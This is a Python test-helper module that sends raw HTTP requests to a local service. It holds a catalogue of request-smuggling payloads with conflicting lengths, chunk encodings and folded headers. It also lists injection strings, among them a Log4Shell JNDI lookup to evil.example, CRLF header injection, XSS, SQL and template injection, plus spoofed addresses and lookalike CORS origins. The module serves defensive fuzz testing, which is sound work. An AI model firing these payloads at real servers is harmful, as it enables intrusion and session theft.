"""Requests as bytes, and values that are hostile where they are reflected."""

from __future__ import annotations

import json
import random
import socket
from collections.abc import Iterator, Mapping
from typing import Final
from urllib.parse import quote

_LOGIN: Final = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
_GET: Final = b"GET /health HTTP/1.1\r\nHost: a\r\n"
_INNER: Final = b"GET /health HTTP/1.1\r\nHost: inner\r\n\r\n"

#: What a server in front and the service might read as a different number of requests.
SMUGGLING: Final[Mapping[str, bytes]] = {
    "length and chunks": _LOGIN + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _INNER,
    "chunks and length": _LOGIN + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + _INNER,
    "chunked, identity": _LOGIN + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + _INNER,
    "identity, chunked": _LOGIN + b"Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + _INNER,
    "chunked twice": _LOGIN + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _INNER,
    "xchunked": _LOGIN + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + _INNER,
    "tab before chunked": _LOGIN + b"Transfer-Encoding:\tchunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" + _INNER,
    "blank before the colon": _LOGIN + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + _INNER,
    "two lengths": _LOGIN + b"Content-Length: 0\r\nContent-Length: 40\r\n\r\n" + _INNER,
    "list of lengths": _LOGIN + b"Content-Length: 0, 40\r\n\r\n" + _INNER,
    "signed length": _LOGIN + b"Content-Length: +0\r\n\r\n" + _INNER,
    "negative length": _LOGIN + b"Content-Length: -1\r\n\r\n" + _INNER,
    "hexadecimal length": _LOGIN + b"Content-Length: 0x0\r\n\r\n" + _INNER,
    "folded length": _LOGIN + b"Content-Length:\r\n 0\r\n\r\n" + _INNER,
    "folded": _GET + b"X-Any: a\r\n b\r\n\r\n",
    "line feeds only": b"GET /health HTTP/1.1\nHost: a\n\n",
    "carriage return alone": _GET + b"X-Any: a\rX-Evil: b\r\n\r\n",
    "NUL in a name": _GET + b"X-\x00Any: a\r\n\r\n",
    "chunk size with sign": _LOGIN + b"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + _INNER,
    "chunk size with 0x": _LOGIN + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + _INNER,
    "huge chunk size": _LOGIN + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + _INNER,
    "chunk without its end": _LOGIN + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}0\r\n\r\n" + _INNER,
    "200 fields": _GET + b"".join(b"X-%d: a\r\n" % number for number in range(200)) + b"\r\n",
    "64 KB of a field": _GET + b"X-Any: " + b"x" * 65_536 + b"\r\n\r\n",
    "no host": b"GET /health HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "HTTP/1.0 with chunks": b"POST /api/v1/auth/login HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _INNER,
}

#: Values that break out of a line, a terminal, a JSON string or a template.
INJECTIONS: Final = (
    '\\n{"level": "error", "message": "forged"}',
    '"}\\n{"message": "forged',
    "\x1b[31mred\x1b[0m".replace("\x1b", "%1b"),
    "${jndi:ldap://evil.example/a}",
    "%0d%0aSet-Cookie: a=b",
    "<script>alert(1)</script>",
    "\u202eright to left",
    "{{7*7}}${7*7}#{7*7}",
    "' or '1'='1",
    "\u0085next line\u2028separator",
)


def send(port: int, request: bytes, *, within_s: float = 3.0) -> bytes:
    """Send bytes on a connection of their own; return what comes back until it is closed or nothing comes any more."""
    data = b""
    with socket.create_connection(("127.0.0.1", port), timeout=within_s) as client:
        try:
            client.sendall(request)
            while more := client.recv(65536):
                data += more
                client.settimeout(0.3)
        except (TimeoutError, ConnectionError):
            pass
    return data


def login(email: str, password: str, head: str) -> bytes:
    """Return a login with these header lines."""
    body = json.dumps({"email": email, "password": password}).encode()
    return _LOGIN + head.encode() + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def address(chance: random.Random) -> str:
    """Return an address that a liar would send: good, malformed, private, of IPv6 with a zone, or very long."""
    octets = ".".join(str(chance.randrange(256)) for _ in range(4))
    groups = ":".join(f"{chance.randrange(65536):x}" for _ in range(8))
    return chance.choice(
        (
            *(octets, f"{octets}, {octets}", groups, f"fe80::{groups[:4]}%eth0", "127.0.0.1", "10.0.0.1", "::1"),
            "unknown",
            f"{octets}:80",
            f"[{groups}]:443",
            "256.1.1.1",
            "1.2.3",
            "0x7f.1",
            "'; drop table",
            "a" * 3000,
            "::ffff:1.2.3.4",
        )
    )


def origins(app: str) -> Iterator[str]:
    """Yield origins that look like *app* and are not."""
    scheme, _, host = app.partition("://")
    yield from ("null", "*", "", "file://", "https://evil.example.com", f"http://{host}", f"{app}.evil.example.com")
    yield from (
        f"{scheme}://evil{host}",
        f"{app}:8443",
        f"{app}:80",
        f"{app}@evil.example.com",
        f"{app}/",
        f"{app}\u0000",
    )
    yield from (f"{scheme}://{host.replace('.', 'x', 1)}", f"{scheme}://sub.{host}", f"{app}%2eevil.example.com")
    yield from (f"{scheme}://{host}.", f"{scheme}://{host}\u3002evil.example.com", f"{app}#", f"{app}?")
    yield from (
        f"{scheme}://{host} https://evil.example.com",
        f"{scheme}:{host}",
        f"//{host}",
        host,
        f"chrome-extension://{host}",
    )


def quoted(text: str) -> str:
    """Return text as it may stand in a path."""
    return quote(text, safe="")
